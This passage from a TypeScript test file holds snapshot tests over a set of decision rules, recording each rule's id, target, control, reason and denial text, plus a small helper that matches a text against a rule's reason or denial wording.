        return [`${id}: ${what}`, [decision, ...required_controls].join(", "), ...said].join(" | ");
      }),
    );
    expect(decisions.join("\n")).toMatchSnapshot();
  });
  test("the rules, their order and their words", () => {
    const rules = RULES.map(({ id, looks_at, control = "", reason, denial = "" }) =>
      [id, looks_at, control, reason, denial].join(" | "),
    );
    expect(rules.join("\n")).toMatchSnapshot();
  });
});

function saidBy({ reason, denial = reason }: Rule, text: string): boolean {
  return [reason, denial].some((words) => text === words || text.startsWith(`${words}: `));
}
